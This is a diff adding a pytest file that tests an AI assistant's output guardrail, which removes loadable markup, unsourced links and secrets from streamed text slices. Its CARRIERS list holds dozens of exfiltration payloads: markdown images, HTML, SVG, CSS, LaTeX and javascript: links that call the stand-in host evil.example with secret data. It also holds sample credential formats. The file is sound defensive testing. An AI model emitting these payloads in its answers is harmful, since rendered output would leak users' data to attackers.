@@ -1,0 +1,153 @@
+"""Output: nothing loads by itself, no link but those of the sources, no secret, wherever the slices are cut."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from assistant.guardrails.output import LEFT_OUT, Output
+
+SOURCE = "See https://wiki.example.com/leave?x=1 and write to mailto:hr@example.com."
+EVIL = "http://evil.example/c.png?d=secret"
+CARRIERS = [
+    f"![a]({EVIL})",
+    f"![a](<{EVIL}>)",
+    f"![a]({EVIL} 'title')",
+    f"![a][1]\n\n[1]: {EVIL}",
+    f"![a][]\n\n[a]: {EVIL}",
+    f"![1]\n\n[1]: {EVIL}",
+    f"[![a]({EVIL})]({EVIL})",
+    f"[text]({EVIL})",
+    f"[text][ref]\n\n[ref]: {EVIL}",
+    f"[^1]\n\n[^1]: ![x]({EVIL})",
+    f"<{EVIL}>",
+    EVIL,
+    f"<img src={EVIL}>",
+    f'<img src="{EVIL}" onerror=alert(1)>',
+    f"<svg><use href='{EVIL}'/></svg>",
+    f"<video poster={EVIL}></video>",
+    f"<link rel=preload href={EVIL}>",
+    f"<style>body{{background:url({EVIL})}}</style>",
+    f"<iframe src={EVIL}>",
+    f"<!-- {EVIL} -->",
+    f"```mermaid\ngraph TD; A[<img src='{EVIL}'>]\n```",
+    f"$\\href{{{EVIL}}}{{x}}$",
+    f"$\\includegraphics{{{EVIL}}}$",
+    f"| a |\n|---|\n| ![a]({EVIL}) |",
+    f"> ![a]({EVIL})",
+    f"# ![a]({EVIL})",
+    f"- ![a]({EVIL})",
+    f"\\`<img src={EVIL}>`",
+    f"``` not a fence ![a]({EVIL})",
+    f"~~~\n![a]({EVIL})\n~~~",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html;base64,AAAA)",
+    "[x](//evil.example/a)",
+    "[x](http://wiki.example.com@evil.example/leave)",
+    "[x](https://wiki.example.com/leave?x=1&d=secret)",
+    "www.evil.example/secret",
+]
+
+
+def loads(markdown: str) -> list[str]:
+    """Return what a markdown renderer could load, link or run outside of code."""
+    text = re.sub(r"(?ms)^```[\w+-]*[ \t]*$.*?^ {0,3}```[ \t]*$", "", markdown)
+    text = re.sub(r"(?<![`\\])(`+)(?!`)[^\n]+?(?<!`)\1(?!`)", "", text)
+    return re.findall(
+        r"!\[|\]\(|\]\[(?!\d\])|\]:|<[A-Za-z/!?]|(?:https?|data|javascript):[^\s]*|www\.\S+|\\href|\\includegraphics",
+        text,
+    )
+
+
+@pytest.mark.parametrize("carrier", CARRIERS)
+@pytest.mark.parametrize("size", [10_000, 7, 1])
+def test_it_leaves_nothing_that_loads(carrier: str, size: int) -> None:
+    output = Output([SOURCE])
+    text = f"Before.\n{carrier}\nAfter."
+    shown = "".join(output.slice(part) for part in _slices(text, size))
+    assert loads(shown) == []
+    assert "```mermaid" not in shown
+
+
+def _slices(text: str, size: int) -> list[str]:
+    """Cut where releases cut: at blanks, so that no word is torn."""
+    words = re.findall(r"\S*\s*", text)
+    return ["".join(words[i : i + size]) for i in range(0, len(words), size)]
+
+
+def test_it_keeps_links_that_a_source_gave_and_shows_their_host() -> None:
+    output = Output([SOURCE])
+    assert output.slice("[Leave](https://wiki.example.com/leave?x=1)") == (
+        "[Leave (wiki.example.com)](https://wiki.example.com/leave?x=1)"
+    )
+    assert output.slice(" https://wiki.example.com/leave?x=1.") == " https://wiki.example.com/leave?x=1."
+    assert LEFT_OUT in output.slice(" https://wiki.example.com/leave")
+
+
+def test_it_leaves_code_alone() -> None:
+    code = "Use `<b>` and:\n```html\n<b>![x](y)</b>\n```\n"
+    assert Output([]).slice(code) == code
+
+
+def test_it_does_not_trust_code_whose_beginning_lies_in_an_earlier_slice() -> None:
+    output = Output([])
+    shown = output.slice("a ` b\n") + output.slice("c `<img src=x>` d")
+    assert "<img" not in shown
+    assert "<b>" in output.slice("\n\nUse `<b>`.")
+
+
+def test_it_does_not_trust_a_fence_that_a_renderer_closes_earlier() -> None:
+    shown = Output([]).slice("```\ncode\n   ````\n<img src=x>\n```\n")
+    assert "<img" not in shown
+
+
+def test_it_keeps_citation_marks_and_plain_brackets() -> None:
+    assert Output([]).slice("France [1]. A [b] c < d, 1 < 2.") == "France [1]. A [b] c < d, 1 < 2."
+
+
+@pytest.mark.parametrize(
+    "secret",
+    [
+        "AKIAIOSFODNN7EXAMPLE",
+        "ghp_" + "a1" * 18,
+        "sk-" + "x" * 40,
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0abc.SflKxwRJSMeKKF2QT4fw",
+        "our-own-engine-key",
+    ],
+)
+def test_it_never_lets_a_secret_out(secret: str) -> None:
+    shown = Output([secret], secrets=["our-own-engine-key"]).slice(f"The key is {secret} indeed.")
+    assert secret not in shown
+    assert "indeed" in shown
+
+
+def test_it_leaves_out_a_private_key_over_many_slices() -> None:
+    output = Output([])
+    lines = ["-----BEGIN RSA PRIVATE KEY-----\n", "MIIEpAIBAAKCAQEA\n", "abc\n-----END RSA PRIVATE KEY-----\nDone."]
+    shown = "".join(output.slice(line) for line in lines)
+    assert "MII" not in shown
+    assert "abc" not in shown
+    assert shown.endswith("Done.")
+
+
+def test_it_changes_nothing_but_secrets_in_data_for_programs() -> None:
+    text = '{"a": "![x](http://e)", "k": "AKIAIOSFODNN7EXAMPLE"}'
+    shown = Output([], markdown=False).slice(text)
+    assert "![x](http://e)" in shown
+    assert "AKIA" not in shown
+
+
+@given(
+    st.lists(
+        st.sampled_from(["![", "](", "http://e.x/a", "]:", "[a]", "<img", "`", "\n", " ", "!", "]", "(", "<", "b>"])
+    )
+)
+def test_it_lets_no_markup_arise_across_slices(parts: list[str]) -> None:
+    output = Output([])
+    shown = "".join(output.slice(part) for part in parts if part)
+    outside = re.sub(r"(?<![`\\])(`+)(?!`)[^\n]+?(?<!`)\1(?!`)", " code ", shown)
+    assert "![" not in outside
+    assert "](" not in outside
